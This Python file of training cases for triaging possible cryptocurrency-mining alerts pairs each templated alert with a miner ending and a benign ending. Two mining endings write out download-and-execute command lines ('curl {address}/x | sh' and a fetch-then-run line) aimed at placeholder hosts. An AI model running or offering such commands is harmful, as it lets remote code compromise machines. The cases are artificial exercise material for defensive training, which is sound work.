"""Training cases whose alert may be cryptocurrency mining."""

from authoring.triage.world import Case, Ending

CASES = (
    Case(
        "hot_laptop",
        "Processor busy for hours",
        (
            "{host} has been at full load since {earlier}, account {user}.",
            "All cores of {host} have been busy without a break since {earlier}. Signed in: {user}.",
            "{user} complains that {host} is slow and hot. Load: 100 % since {earlier}.",
            "Load of {host}, the computer of {user}, has not dropped below 97 % since {earlier}.",
        ),
        (
            Ending(
                "mining",
                {"processes": "svchost.exe (in C:\\Users\\Public)\n  {file}.exe --pool {address}:3333 --threads 8"},
            ),
            Ending(
                "known_software",
                {
                    "processes": (
                        "explorer.exe\n"
                        "  render.exe (signed, licence of the design team), frame {number} of 1000 of a film"
                    )
                },
            ),
        ),
    ),
    Case(
        "build_miner",
        "Build server busy without a build",
        (
            "{host} is at full load, and no build is queued.",
            "The queue is empty, yet every core of {host} is at work.",
            "{host} builds nothing at the moment. Its load says otherwise: 100 %.",
            "Why is {host} running hot with no build waiting? Please look into it.",
        ),
        (
            Ending(
                "mining", {"processes": "agent\n  bash -c 'curl {address}/x | sh'\n    {file} -o stratum --donate 1"}
            ),
            Ending(
                "planned_change",
                {"change": ("{change} {host} {start}-{end}: all packages compiled anew outside the queue, by {user}")},
            ),
        ),
        server=True,
    ),
    Case(
        "scheduled_job",
        "New scheduled job",
        (
            'A job that starts "{file}" every minute was added on {host}.',
            "{host} will now start {file} once a minute: new line in the job table.",
            'Job table of {host}: "* * * * * {file}" was not there an hour ago.',
            "Every minute {host} runs {file}; nobody told us about that job.",
        ),
        (
            Ending(
                "mining",
                {
                    "processes": (
                        "cron\n  {file}, from /tmp, unsigned\n    connected to {address}, sends hashes, uses all cores"
                    )
                },
            ),
            Ending(
                "known_software",
                {"processes": "cron\n  {file} (of our monitoring, signed), sends the free disk space, 0.1 s each"},
            ),
        ),
        server=True,
    ),
    Case(
        "all_night",
        "Laptop never sleeps",
        (
            "{host} of {user} was awake and busy the whole night.",
            "No standby for {host} since yesterday evening. Owner: {user}.",
            "Energy report: {host} ({user}) at work through all hours of the night.",
            "The laptop {host}, used by {user}, has not slept for a day and a half, and its fan is on.",
        ),
        (
            Ending(
                "mining",
                {
                    "processes": (
                        "svchost.exe (in the temp folder)\n"
                        "  {file}.exe, unsigned, eight threads, hands in shares to {address} round the clock"
                    )
                },
            ),
            Ending(
                "travel",
                {
                    "host": (
                        "Booked out for the trip of {user} to {far}, {last} to {back}; night here is office time there."
                    )
                },
            ),
        ),
    ),
    Case(
        "flat_battery",
        "Battery empty again and again",
        (
            "{host} ran its battery empty four times in a day. User: {user}.",
            "{user}'s laptop {host}: four charges used up since yesterday.",
            "Battery alarm, {host}, {user}: from full to empty in 50 minutes, once more.",
            "At this rate {host} ({user}) needs a charger every hour. What is the matter with it?",
        ),
        (
            Ending(
                "mining",
                {
                    "processes": (
                        "chrome.exe\n  tab left open at {address}\n"
                        "    {file}.wasm, counts hashes on every core for somebody's wallet"
                    )
                },
            ),
            Ending(
                "travel",
                {
                    "host": (
                        "Travel pool: with {user} on a visit to the cold stores of {city2} until {back}. At "
                        "minus 20 degrees no battery lasts; the two others there report the same."
                    )
                },
            ),
        ),
    ),
    Case(
        "endless_sheet",
        "One program takes the whole processor",
        (
            "{host}: a single program has held every core since {earlier}. Desk of {user}.",
            "{user}, {host}: processor at its limit for two hours, one program is the cause.",
            "One program keeps {host} from doing anything else; it has gone on since {earlier}. It runs as {user}.",
            "Please find out what {user} has running on {host}. It eats all the computing time there is.",
        ),
        (
            Ending(
                "mining",
                {
                    "processes": (
                        "excel.exe prices.xlsm (from a download page)\n"
                        "  {file}.exe, unsigned, all cores, sends its results to the coin pool at {address}"
                    )
                },
            ),
            Ending(
                "user_mistake",
                {
                    "processes": (
                        "excel.exe prices.xlsm (written by {user})\n"
                        "  macro sum_all: a loop whose end was forgotten, no connection"
                    )
                },
            ),
        ),
    ),
    Case(
        "power_draw",
        "Rack draws too much power",
        (
            "Power meter of the rack: {host} takes twice its usual current.",
            "{host} draws {count}0 watts more than on any other day.",
            "Facility calls: the fuse for {host} is close to its limit.",
            "Current of {host} doubled at {earlier}, and stays there.",
        ),
        (
            Ending(
                "mining",
                {
                    "processes": (
                        "kthreadd\n  {file}, named like a kernel thread, in /dev/shm\n"
                        "    hash rate {number} kH/s, reports to {address}"
                    )
                },
            ),
            Ending(
                "user_mistake",
                {
                    "processes": "bash ({user2})\n  model --repeat forever",
                    "user user2": 'Typed "forever" in place of "5 minutes"; stopped it at {time} and said sorry.',
                },
            ),
        ),
        server=True,
    ),
    Case(
        "wrong_cluster",
        "Jobs by the hundred",
        (
            "{count}00 jobs were put in the queue of {host} by {user}.",
            "Queue of {host} is full: {count}00 jobs, one owner, {user}.",
            "{user} has filled {host} with {count}00 jobs within a minute; nobody else gets a turn.",
            "Everybody waits, because {host} works off {count}00 jobs of {user}.",
        ),
        (
            Ending(
                "mining",
                {
                    "processes": (
                        "slurmd\n  job {number}: bash -c 'fetch {address}/{file}; ./{file} --wallet'\n"
                        "  the same in every other job"
                    )
                },
            ),
            Ending(
                "user_mistake",
                {
                    "user": (
                        "Wrote to all at {time}: meant to send 3 jobs, mistyped the range, and is taking the "
                        "others out one after the other."
                    )
                },
            ),
        ),
        server=True,
    ),
    Case(
        "woken_machine",
        "Computer switched on from afar",
        (
            "{host} woke up the machine {host2} over the network and loaded it to the brim.",
            "{host2} is busy. It was started over the network by {host}.",
            "Wake-on-LAN: {host} called {host2}, which has been at full load ever since.",
            "Somebody used {host} to switch on {host2} and give it work.",
        ),
        (
            Ending(
                "mining",
                {
                    "processes host2": (
                        "rc.local\n  {file}, from an unknown archive, all graphics cards, in touch with {address}"
                    )
                },
                beside={"processes": "cron\n  wake.sh {host2} (our own, switches it on every working day)"},
                where="host2",
            ),
            Ending(
                "user_mistake",
                {
                    "processes": "bash ({user3})\n  wake.sh {host2}",
                    "user user3": (
                        "Mixed up the numbers, wanted the spare machine beside it, and has asked for the work "
                        "on {host2} to be stopped."
                    ),
                },
            ),
        ),
        server=True,
    ),
    Case(
        "stress_run",
        "Server at its limit, all parts at once",
        (
            "Processor, memory and graphics of {host} are all at 100 %.",
            "{host} is under the heaviest load we have measured, since {before}.",
            "Everything in {host} that can be busy is busy.",
            "Load of {host} went from nothing to the maximum at {before}.",
        ),
        (
            Ending(
                "mining",
                {
                    "processes": (
                        "init\n  {file}, unknown, renamed to look like the updater\n"
                        "    counts for the pool at {address}"
                    )
                },
                beside={
                    "change": (
                        "{change} {host2} {start}-{end}: burn-in under full load before acceptance, ordered by {boss}"
                    )
                },
            ),
            Ending(
                "authorised_test",
                {
                    "change": (
                        "{change} {host} {start}-{end}: load test before acceptance, all parts at 100 %, "
                        "ordered by {boss}"
                    )
                },
            ),
        ),
        server=True,
    ),
    Case(
        "pool_names",
        "Name of a coin pool was looked up",
        (
            "{host} asked for the name of a coin pool and then spoke to {address}.",
            "Name lookup of {host}: a known coin pool. Answer: {address}. Connection: yes.",
            "{address} belongs to a name on our list of coin pools; {host} is connected to it.",
            "There is a connection between {host} and {address}, the address of a coin pool by name.",
        ),
        (
            Ending(
                "mining",
                {"address": ("malicious: the pool itself; nobody talks to it but miners, which log in with a wallet")},
            ),
            Ending(
                "authorised_test",
                {
                    "address": (
                        "test point of our sensor's maker, which bears the pool's name for the trial of this "
                        "rule, ordered by {boss} for {day}"
                    )
                },
            ),
        ),
        server=True,
    ),
    Case(
        "subtitle_card",
        "Graphics card at full load",
        (
            "The graphics card of {host} is at 100 % while {user} types a letter.",
            "{host} ({user}): graphics at the limit, screen almost still.",
            "Why does {host} compute on its graphics card? {user} has only a text open.",
            "Graphics load without graphics: {host}, account {user}.",
        ),
        (
            Ending(
                "mining",
                {"processes": ("explorer.exe\n  {file}.exe, unsigned, hidden window, works for the pool at {address}")},
                beside={
                    "past": (
                        "{old}: {host}, closed as known_software: subtitler.exe of the film team works on the "
                        "graphics card; exception for it holds until {next}."
                    )
                },
            ),
            Ending(
                "known_software",
                {
                    "past": (
                        "{old}: {host}, closed as known_software: subtitler.exe of the film team works on the "
                        "graphics card; exception for it holds until {next}."
                    ),
                    "processes": "explorer.exe\n  subtitler.exe, reel {number}, in the background",
                },
            ),
        ),
    ),
    Case(
        "grinding_disk",
        "Disk and processor busy together",
        (
            "Disk and processor of {host} have been at the limit since {earlier}.",
            "{host} reads its whole disk and computes on what it reads.",
            "{host} grinds. Disk 100 %, processor 100 %.",
            "Since {earlier} nobody can work on {host}, so busy is it with itself.",
        ),
        (
            Ending(
                "mining",
                {
                    "processes": (
                        "services.exe\n"
                        "  {file}.exe, unsigned, plots the disk full of hashes for a storage coin, reports to "
                        "{address}"
                    )
                },
                beside={
                    "past": (
                        "{old}: {host}, closed as known_software: monthly scan of guardscan.exe, our virus "
                        "scanner; exception for guardscan.exe until {next}."
                    )
                },
            ),
            Ending(
                "known_software",
                {
                    "past": (
                        "{old}: {host}, closed as known_software: monthly scan of guardscan.exe, our virus "
                        "scanner; exception for guardscan.exe until {next}."
                    ),
                    "processes": "services.exe\n  guardscan.exe, full scan, {count} % done",
                },
            ),
        ),
    ),
    Case(
        "farm_node",
        "New member of a computing group",
        (
            "{host} has joined a computing group that is led by {host2}.",
            "{host2} hands out work, {host} takes it. That is new.",
            "{host} now takes its orders from {host2}.",
            "Computing group: leader {host2}, new member {host}.",
        ),
        (
            Ending(
                "mining",
                {
                    "processes host2": (
                        "master\n  {file}, unknown, makes hash work units for a wallet, reports to {address}"
                    )
                },
                beside={"processes": "worker (our official program), bound to {host2}, idle"},
                where="host2",
            ),
            Ending(
                "known_software",
                {
                    "host host2": (
                        "Scheduler of our weather group, approved in the inventory; takes idle servers in and "
                        "gives them back."
                    )
                },
            ),
        ),
        server=True,
    ),
    Case(
        "container_swarm",
        "Many small containers",
        (
            "{host} started {count} containers that are in no inventory; each of them asks {address} what to do.",
            "{count} new containers on {host}, one employer: {address}.",
            "Inventory and truth differ: {host} runs {count} containers more than it should, on behalf of {address}.",
            "Containers without an entry, {count} of them, all on {host}; they fetch their work from {address}.",
        ),
        (
            Ending("mining", {"address": "malicious: hands out coin work to hijacked servers, and nothing else"}),
            Ending(
                "known_software",
                {
                    "address": (
                        "our own build cloud; it places short-lived test builders on idle servers and needs no "
                        "inventory entry"
                    )
                },
            ),
        ),
        server=True,
    ),
    Case(
        "search_busy",
        "Search server at full load",
        (
            "{host} is at full load and answers no searches.",
            "Searches on {host} time out; its load is 100 %.",
            "Nobody finds anything: {host} is too busy to search.",
            "{host} has had no time for searches since {before}.",
        ),
        (
            Ending(
                "mining",
                {
                    "processes": (
                        "java\n  {file}, a plug-in that nobody ordered\n"
                        "    computes coins in the search threads, paid out by {address}"
                    )
                },
                beside={"change": "{change} {host3} {start}-{end}: search index built anew, by {user3}"},
            ),
            Ending(
                "planned_change",
                {"change": ("{change} {host} {start}-{end}: search index built anew, searches stand still, by {user}")},
            ),
        ),
        server=True,
    ),
    Case(
        "card_fitting",
        "New hardware, and it is busy",
        (
            "{host} has two more graphics cards than yesterday and uses both to the full.",
            "New cards in {host}, at once at 100 %.",
            "Hardware list of {host}: + 2 graphics cards, load 100 %.",
            "Who put cards into {host}, and what are they working on?",
        ),
        (
            Ending(
                "mining",
                {
                    "processes": (
                        "init\n  {file}, from a stick, no package, one per card, wallet in the arguments\n"
                        "    connected to {address}"
                    )
                },
                beside={
                    "change": (
                        "{change} {host} {early}-{over}: two graphics cards fitted, tried out and switched "
                        "off, by {user2}"
                    )
                },
            ),
            Ending(
                "planned_change",
                {
                    "change": (
                        "{change} {host} {start}-{end}: two graphics cards fitted and broken in under load, by {user2}"
                    )
                },
            ),
        ),
        server=True,
    ),
    Case(
        "system_job",
        "Long computation under a system account",
        (
            "A system account has been computing on {host} since {earlier}.",
            '{host}: account "system", {count} threads, no end in sight.',
            "The heaviest job on {host} belongs to no person but to the system.",
            'Computing time of "system" on {host}: more than in the whole month before.',
        ),
        (
            Ending(
                "mining",
                {
                    "processes": (
                        "wininit.exe\n  {file}.exe, unsigned, came with a cracked program, mines for {address}"
                    )
                },
            ),
            Ending(
                "planned_change",
                {
                    "change": (
                        "{change} {host} {early}-{end}: archive packed anew in a tighter format, runs as "
                        "system, by {user}"
                    )
                },
            ),
        ),
        server=True,
    ),
)
